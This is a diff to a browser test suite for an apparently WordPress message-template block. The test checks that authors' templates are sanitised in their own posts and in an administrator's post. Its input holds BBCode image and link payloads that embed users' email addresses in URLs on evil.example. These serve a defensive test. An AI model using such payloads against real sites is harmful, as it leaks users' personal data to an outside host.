@@ -78,46 +78,58 @@ test( 'all of it works with the keyboard', async ( { page, site } ) => {
 	);
 } );
 
-test( 'an author is told what becomes of the template, and it becomes that', async ( {
-	page,
-	site,
-} ) => {
-	const { id: author } = await site.createUser( {
-		login: 'writer',
-		role: 'author',
-	} );
-	const { id, url } = await site.createPost( {
-		title: 'By an author',
-		content: '',
-		type: 'post',
-		author,
-	} );
-	await openEditor( page, site, id, 'writer' );
-	await insertBlock( page );
-	await panel( page ).getByLabel( 'Use a different first message' ).check();
-	await template( page ).fill(
-		'[b]Hi[/b] {user_login} [img]https://evil.example/{email}.png[/img] [url=https://evil.example/?e={email}]x[/url] [url=https://example.com/]shop[/url]'
-	);
+for ( const whose of [ 'a post of their own', 'an administrator’s post' ] ) {
+	test( `in ${ whose } an author is told what becomes of the template, and it becomes that`, async ( {
+		page,
+		site,
+	} ) => {
+		const { id: writer } = await site.createUser( {
+			login: 'writer',
+			role: 'author',
+		} );
+		await inPhp(
+			site,
+			`foreach ( array( 'edit_others_posts', 'edit_published_posts' ) as $capability ) {
+			get_userdata( $args['writer'] )->add_cap( $capability );
+		}
+		return true;`,
+			{ writer }
+		);
+		const { id, url } = await site.createPost( {
+			title: 'By an author',
+			content: '',
+			type: 'post',
+			author: whose === 'a post of their own' ? writer : 1,
+		} );
+		await openEditor( page, site, id, 'writer' );
+		await insertBlock( page );
+		await panel( page )
+			.getByLabel( 'Use a different first message' )
+			.check();
+		await template( page ).fill(
+			'[b]Hi[/b] {user_login} [img]https://evil.example/{email}.png[/img] [url=https://evil.example/?e={email}]x[/url] [url=https://example.com/]shop[/url]'
+		);
 
-	await expect( panel( page ) ).toContainText(
-		'Operators will see [img], [/img] as text.'
-	);
-	await expect( panel( page ) ).toContainText(
-		'Operators will see [url=https://evil.example/?e={email}] as text.'
-	);
-	await expect( preview( page ) ).toContainText( 'Hi writer ［img］' );
-	await expect( preview( page ).getByRole( 'link' ) ).toHaveCount( 1 );
-	expect( await violationsIn( panel( page ) ) ).toEqual( [] );
-	await page.screenshot( {
-		path: 'artifacts/screens/block-author.png',
-	} );
+		await expect( panel( page ) ).toContainText(
+			'Operators will see [img], [/img] as text.'
+		);
+		await expect( panel( page ) ).toContainText(
+			'Operators will see [url=https://evil.example/?e={email}] as text.'
+		);
+		await expect( preview( page ) ).toContainText( 'Hi writer ［img］' );
+		await expect( preview( page ).getByRole( 'link' ) ).toHaveCount( 1 );
+		expect( await violationsIn( panel( page ) ) ).toEqual( [] );
+		await page.screenshot( {
+			path: 'artifacts/screens/block-author.png',
+		} );
 
-	await saveInEditor( page );
-	const message = await messageOf( site, url );
-	expect( message ).toContain( '[b]Hi[/b] {user_login} ［img］' );
-	expect( message ).not.toContain( '[url=https://evil' );
-	expect( message ).toContain( '[url=https://example.com/]shop[/url]' );
-} );
+		await saveInEditor( page );
+		const message = await messageOf( site, url );
+		expect( message ).toContain( '[b]Hi[/b] {user_login} ［img］' );
+		expect( message ).not.toContain( '[url=https://evil' );
+		expect( message ).toContain( '[url=https://example.com/]shop[/url]' );
+	} );
+}
 
 test( 'the shortcode becomes the block, and the block the shortcode', async ( {
 	page,
